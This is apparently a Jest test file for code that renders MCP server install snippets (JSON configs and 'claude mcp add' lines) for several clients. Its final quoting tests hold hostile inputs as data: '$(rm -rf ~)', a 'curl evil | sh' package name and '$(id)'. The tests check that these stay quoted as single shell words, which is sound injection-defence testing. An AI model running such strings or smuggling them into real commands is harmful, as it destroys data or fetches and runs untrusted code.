/**
 * Install snippets (lambdas/site/render/install.ts) against the clients' documented formats: JSON
 * that parses into the client's shape, a `claude mcp add` line that a POSIX shell splits into the
 * intended words, secrets left as placeholders (VS Code: masked prompts), Docker given `-e` for each
 * variable, a hosted endpoint's headers carried to every client.
 */
import { spawnSync } from 'node:child_process';
import type { CatalogRecord, RegistryPackage, RegistryRemote } from '../../lambdas/catalog/domain/types';
import { configKey, installOptions, shellQuote, type InstallOption } from '../../lambdas/site/render/install';

function record(over: Partial<CatalogRecord>): CatalogRecord {
  return {
    slug: 'io-github-acme-weather',
    name: 'io.github.acme/weather',
    description: 'Weather',
    version: '1.2.0',
    status: 'active',
    packages: [],
    remotes: [],
    isOfficial: false,
    crawledAt: '2026-11-01T00:00:00.000Z',
    categories: [],
    grades: { license: null, maintenance: null, quality: 'untested' },
    popularity: 0,
    trending: 0,
    hasIcon: false,
    ...over,
  };
}

const npm: RegistryPackage = {
  registryType: 'npm',
  identifier: '@acme/weather-mcp',
  version: '1.2.0',
  transport: { type: 'stdio' },
  environmentVariables: [
    { name: 'WEATHER_API_KEY', description: 'API key', isRequired: true, isSecret: true },
    { name: 'UNITS', description: 'metric or imperial', default: 'metric' },
  ],
  packageArguments: [
    { type: 'positional', valueHint: 'directory', isRequired: true, description: 'Cache directory' },
    { type: 'named', name: '--region', value: 'eu' },
    { type: 'named', name: '--verbose', description: 'Log more' },
  ],
};

/** The words a POSIX shell makes of a command line (bash itself, so quoting is judged by the real thing). */
function shellWords(line: string): string[] {
  const run = spawnSync('bash', ['-c', `f() { printf '%s\\0' "$@"; }; f ${line}`], { encoding: 'utf8' });
  expect(run.status).toBe(0);
  return run.stdout.split('\0').slice(0, -1);
}

function snippet(o: InstallOption, client: string) {
  const s = o.snippets.find((x) => x.client === client);
  if (!s) throw new Error(`no ${client} snippet in ${o.title}`);
  return s;
}

describe('a package with arguments and environment variables', () => {
  const [option] = installOptions(record({ packages: [npm] }));

  test('Claude Desktop and Cursor: mcpServers.<name> with command, args and env', () => {
    for (const client of ['claude-desktop', 'cursor']) {
      const config = JSON.parse(snippet(option, client).text);
      expect(config).toEqual({
        mcpServers: {
          weather: {
            command: 'npx',
            args: ['-y', '@acme/weather-mcp@1.2.0', '<directory>', '--region', 'eu'],
            env: { WEATHER_API_KEY: '<WEATHER_API_KEY>' },
          },
        },
      });
    }
  });

  test('Claude Code: claude mcp add <name> --env K=V -- <command> <args>, quoted for the shell', () => {
    const line = snippet(option, 'claude-code').text;
    expect(shellWords(line)).toEqual([
      'claude',
      'mcp',
      'add',
      'weather',
      '--env',
      'WEATHER_API_KEY=<WEATHER_API_KEY>',
      '--',
      'npx',
      '-y',
      '@acme/weather-mcp@1.2.0',
      '<directory>',
      '--region',
      'eu',
    ]);
  });

  test('VS Code: servers.<name> of type stdio; the secret is a masked ${input:…} prompt, not text in the file', () => {
    const config = JSON.parse(snippet(option, 'vscode').text);
    expect(config.servers.weather).toEqual({
      type: 'stdio',
      command: 'npx',
      args: ['-y', '@acme/weather-mcp@1.2.0', '<directory>', '--region', 'eu'],
      env: { WEATHER_API_KEY: '${input:weather-api-key}' },
    });
    expect(config.inputs).toEqual([{ type: 'promptString', id: 'weather-api-key', description: 'API key', password: true }]);
  });

  test('optional inputs are listed, not guessed', () => {
    expect(option.inputs).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'env', name: 'UNITS', required: false, default: 'metric' }),
        expect.objectContaining({ kind: 'argument', name: '--verbose', required: false }),
        expect.objectContaining({ kind: 'env', name: 'WEATHER_API_KEY', required: true, secret: true }),
      ]),
    );
    expect(snippet(option, 'claude-desktop').text).not.toContain('UNITS');
    expect(snippet(option, 'claude-desktop').text).not.toContain('--verbose');
  });
});

describe('each registry runs the way its tools expect', () => {
  const args = (pkg: RegistryPackage) => JSON.parse(snippet(installOptions(record({ packages: [pkg] }))[0], 'claude-desktop').text).mcpServers.weather;

  test('PyPI through uvx, pinned with ==', () => {
    expect(args({ registryType: 'pypi', identifier: 'weather-mcp', version: '0.3.1', transport: { type: 'stdio' } })).toEqual({
      command: 'uvx',
      args: ['weather-mcp==0.3.1'],
    });
  });

  test('Docker passes each variable into the container with -e and keeps its runtime arguments', () => {
    const entry = args({
      registryType: 'oci',
      identifier: 'ghcr.io/acme/weather:1.2.0',
      transport: { type: 'stdio' },
      runtimeArguments: [
        { type: 'named', name: '--rm' },
        { type: 'named', name: '-i' },
        { type: 'named', name: '--network', value: 'host' },
      ],
      environmentVariables: [{ name: 'TOKEN', isRequired: true, isSecret: true }],
    });
    expect(entry).toEqual({
      command: 'docker',
      args: ['run', '--rm', '-i', '--network', 'host', '-e', 'TOKEN', 'ghcr.io/acme/weather:1.2.0'],
      env: { TOKEN: '<TOKEN>' },
    });
  });

  test('NuGet through dnx, package arguments after --', () => {
    expect(
      args({
        registryType: 'nuget',
        identifier: 'Acme.WeatherMcp',
        version: '2.0.0',
        transport: { type: 'stdio' },
        packageArguments: [{ type: 'positional', value: 'serve' }],
      }),
    ).toEqual({ command: 'dnx', args: ['Acme.WeatherMcp@2.0.0', '--yes', '--', 'serve'] });
  });

  test('an MCP bundle says how to install it in Claude Desktop and gives its checksum', () => {
    const [o] = installOptions(
      record({
        packages: [
          {
            registryType: 'mcpb',
            identifier: 'https://github.com/acme/weather/releases/download/v1/weather.mcpb',
            version: '1',
            fileSha256: 'a'.repeat(64),
            transport: { type: 'stdio' },
          },
        ],
      }),
    );
    expect(o.kind).toBe('bundle');
    expect(o.snippets).toEqual([]);
    expect(o.notes.join(' ')).toMatch(/Claude Desktop/);
    expect(o.notes.join(' ')).toContain('a'.repeat(64));
  });

  test('a package that serves HTTP locally: start it, then point clients at its URL', () => {
    const [o] = installOptions(
      record({
        packages: [
          { registryType: 'npm', identifier: 'weather-http', version: '1.0.0', transport: { type: 'streamable-http', url: 'http://localhost:8080/mcp' } },
        ],
      }),
    );
    expect(o.notes[0]).toContain('`npx -y weather-http@1.0.0`');
    expect(JSON.parse(snippet(o, 'cursor').text)).toEqual({ mcpServers: { weather: { url: 'http://localhost:8080/mcp' } } });
  });

  test('one option per registry, hosted endpoints first', () => {
    const remote: RegistryRemote = { type: 'streamable-http', url: 'https://mcp.acme.dev/mcp' };
    const options = installOptions(
      record({
        packages: [npm, { ...npm, identifier: '@acme/other' }, { registryType: 'pypi', identifier: 'weather', version: '1', transport: { type: 'stdio' } }],
        remotes: [remote, { type: 'sse', url: 'https://mcp.acme.dev/sse' }, { ...remote, url: 'https://mirror.acme.dev/mcp' }],
      }),
    );
    expect(options.map((o) => o.title)).toEqual([
      'Hosted endpoint (Streamable HTTP)',
      'Hosted endpoint (SSE)',
      'npm @acme/weather-mcp 1.2.0',
      'PyPI weather 1',
    ]);
  });
});

describe('a hosted endpoint with a secret header', () => {
  const remote: RegistryRemote = {
    type: 'streamable-http',
    url: 'https://mcp.acme.dev/mcp',
    headers: [{ name: 'Authorization', description: 'Bearer token', isRequired: true, isSecret: true }],
  };
  const [option] = installOptions(record({ remotes: [remote] }));

  test('Claude Code: --transport http with the header', () => {
    expect(shellWords(snippet(option, 'claude-code').text)).toEqual([
      'claude',
      'mcp',
      'add',
      '--transport',
      'http',
      'weather',
      'https://mcp.acme.dev/mcp',
      '--header',
      'Authorization: Bearer <token>',
    ]);
  });

  test('VS Code: type http, the token a masked prompt', () => {
    const config = JSON.parse(snippet(option, 'vscode').text);
    expect(config.servers.weather).toEqual({ type: 'http', url: 'https://mcp.acme.dev/mcp', headers: { Authorization: 'Bearer ${input:authorization}' } });
    expect(config.inputs[0]).toMatchObject({ id: 'authorization', password: true });
  });

  test('Cursor: url and headers', () => {
    expect(JSON.parse(snippet(option, 'cursor').text)).toEqual({
      mcpServers: { weather: { url: 'https://mcp.acme.dev/mcp', headers: { Authorization: 'Bearer <token>' } } },
    });
  });

  test('Claude Desktop: through mcp-remote, the header value in an environment variable', () => {
    expect(JSON.parse(snippet(option, 'claude-desktop').text)).toEqual({
      mcpServers: {
        weather: {
          command: 'npx',
          args: ['-y', 'mcp-remote', 'https://mcp.acme.dev/mcp', '--header', 'Authorization:${MCP_HEADER_1}'],
          env: { MCP_HEADER_1: 'Bearer <token>' },
        },
      },
    });
  });

  test('any client: URL, transport and headers', () => {
    expect(snippet(option, 'generic').text).toBe('URL: https://mcp.acme.dev/mcp\nTransport: Streamable HTTP\nHeader: Authorization: Bearer <token>');
  });

  test('SSE endpoints say so to each client', () => {
    const [sse] = installOptions(record({ remotes: [{ type: 'sse', url: 'https://mcp.acme.dev/sse' }] }));
    expect(shellWords(snippet(sse, 'claude-code').text)).toEqual(['claude', 'mcp', 'add', '--transport', 'sse', 'weather', 'https://mcp.acme.dev/sse']);
    expect(JSON.parse(snippet(sse, 'vscode').text).servers.weather.type).toBe('sse');
  });
});

describe('names and quoting', () => {
  test('the config key is the tidied part of the name after the slash', () => {
    expect(configKey({ name: 'io.github.acme/Weather Server!', slug: 's' })).toBe('weather-server');
    expect(configKey({ name: 'io.github.acme/!!!', slug: 'fallback' })).toBe('fallback');
  });

  test.each([
    ["it's", "'it'\\''s'"],
    ['a b', "'a b'"],
    ['$(rm -rf ~)', "'$(rm -rf ~)'"],
    ['plain-word@1.0', 'plain-word@1.0'],
  ])('shellQuote(%j)', (input, quoted) => {
    expect(shellQuote(input)).toBe(quoted);
    expect(shellWords(quoted)).toEqual([input]);
  });

  test('hostile registry values stay single shell words', () => {
    const [o] = installOptions(
      record({ packages: [{ ...npm, identifier: 'x; curl evil | sh', environmentVariables: [], packageArguments: [{ type: 'positional', value: '$(id)' }] }] }),
    );
    expect(shellWords(snippet(o, 'claude-code').text)).toEqual(['claude', 'mcp', 'add', 'weather', '--', 'npx', '-y', 'x; curl evil | sh@1.2.0', '$(id)']);
  });
});
